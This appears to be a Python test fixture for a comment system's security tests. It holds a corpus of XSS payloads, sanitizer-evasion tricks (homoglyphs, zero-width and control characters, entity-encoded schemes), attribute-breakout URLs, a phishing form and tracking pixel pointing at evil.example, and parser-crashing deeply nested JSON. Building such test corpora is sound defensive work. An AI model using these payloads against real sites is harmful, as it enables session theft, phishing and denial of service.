"""A corpus of hostile reader input. Every script payload sets ``window.__pwned`` or opens a dialog,
and every off-site reference points at ``evil.example``, so a browser test can tell if one worked."""

from __future__ import annotations

import json

EVIL = "http://evil.example"
RUN = "window.__pwned=1"

#: Comment bodies (and mention contents): markup, URLs, Unicode tricks, sizes, bytes.
BODIES = [
    f"<script>{RUN}</script>",
    "<script>alert(document.domain)</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>svg link</text></a></svg>",
    f"[markdown link](javascript:{RUN})",
    f"[mixed case](JaVaScRiPt:{RUN})",
    f"[tab inside](jav&#x09;ascript:{RUN})",
    f"[entity colon](javascript&colon;{RUN})",
    f"[leading space]( javascript:{RUN})",
    "[data url](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"<a href=\"javascript:{RUN}\">raw link</a>",
    f"<a href=\"{EVIL}/\" onclick=\"{RUN}\" onmouseover=\"{RUN}\">handlers</a>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<<script>script>{RUN}<</script>/script>",
    f"\"><script>{RUN}</script>",
    f"'><img src=x onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/bg.png) }}</style>",
    f"<img src=\"{EVIL}/track.png\">",
    f"![image]({EVIL}/markdown-image.png)",
    f"<link rel=stylesheet href=\"{EVIL}/s.css\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{RUN}\">",
    f"<base href=\"{EVIL}/\">",
    f"<form action=\"{EVIL}/phish\"><input name=p><button>Log in</button></form>",
    f"<details open ontoggle=\"{RUN}\">details</details>",
    f"<video><source onerror=\"{RUN}\"></video>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"{EVIL}/x.swf\">",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>`",
    f"<!-- comment --><script>{RUN}</script><!-- end -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"\u202egnp.exe <script>{RUN}</script>",  # right-to-left override
    f"zero\u200bwidth <scr\u200bipt>{RUN}</scr\u200bipt> [z](java\u200bscript:{RUN})",
    f"[homoglyph](jаvascript:{RUN})",  # a Cyrillic "а"
    f"[fullwidth](ｊａｖａｓｃｒｉｐｔ:{RUN})",
    f"nul\x00 byte <scr\x00ipt>{RUN}</script>",
    "x" * 9_000 + f"<script>{RUN}</script>",
    "<" * 2_000 + "b>" * 2_000,
    "y" * 50_000,  # over ENGAGEMENT_COMMENT_MAX_LENGTH (and near MAX_BODY_BYTES)
    f"{EVIL}/bare-url-becomes-a-nofollow-link",
]

#: Author names (one line, shown as text).
NAMES = [
    "Plain Reader",
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    "\u202eRTL override name",
    "N" * 5_000,  # over the 200-character limit: refused with 400, never a 5xx
]

#: Websites that pass the http(s) check but try to break out of the attribute.
WEBSITES = [
    "",
    f"{EVIL}/\"><script>{RUN}</script>",
    f"{EVIL}/'onmouseover='{RUN}'",
    "https://evil.example/%22%3E%3Cscript%3E",
    "https://evil.example/" + "a" * 5_000,
]


def fields(index: int, body: str, thread: str) -> dict[str, str]:
    """One hostile comment: the body plus a hostile name and website chosen by ``index``."""
    return {
        "thread": thread,
        "name": NAMES[index % len(NAMES)],
        "website": WEBSITES[index % len(WEBSITES)],
        "body": body,
    }


# --- malformed requests: each must be a 4xx with a sentence, never a 5xx, on every database --------

#: Numbers no entry id, offset or page can be: the edges of 32- and 64-bit integers and beyond
#: (PostgreSQL's INTEGER id column stops at 2^31-1, SQLite and OFFSET at 2^63-1).
HUGE_NUMBERS = [2**31, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**30, -(10**30)]


def lone_surrogate_json(fields: dict[str, str], field: str) -> bytes:
    """``fields`` as JSON with the lone surrogate escape ``\\ud800`` inside ``field``'s value
    (or as a key of its own when ``field`` is not among them)."""
    document = dict(fields)
    document[field] = "before\ud800after" if field in document else "x"
    text = json.dumps(document)  # ensure_ascii: the surrogate travels as "\ud800"
    if field not in fields:
        text = text.replace(f'"{field}"', '"key\\udc00"')
    return text.encode("ascii")


def deeply_nested_json(depth: int = 20_000, *, inside: str = "[]") -> bytes:
    """A JSON document ``depth`` arrays deep (well-formed, small, and fatal to a recursive parser)."""
    return ("[" * depth + inside + "]" * depth).encode("ascii")


def deeply_nested_field(fields: dict[str, str], field: str, depth: int = 20_000) -> bytes:
    """``fields`` as a JSON object whose ``field`` holds an array ``depth`` levels deep."""
    head = json.dumps({k: v for k, v in fields.items() if k != field})[:-1]
    return (head + f', "{field}": ' + "[" * depth + "]" * depth + "}").encode("ascii")
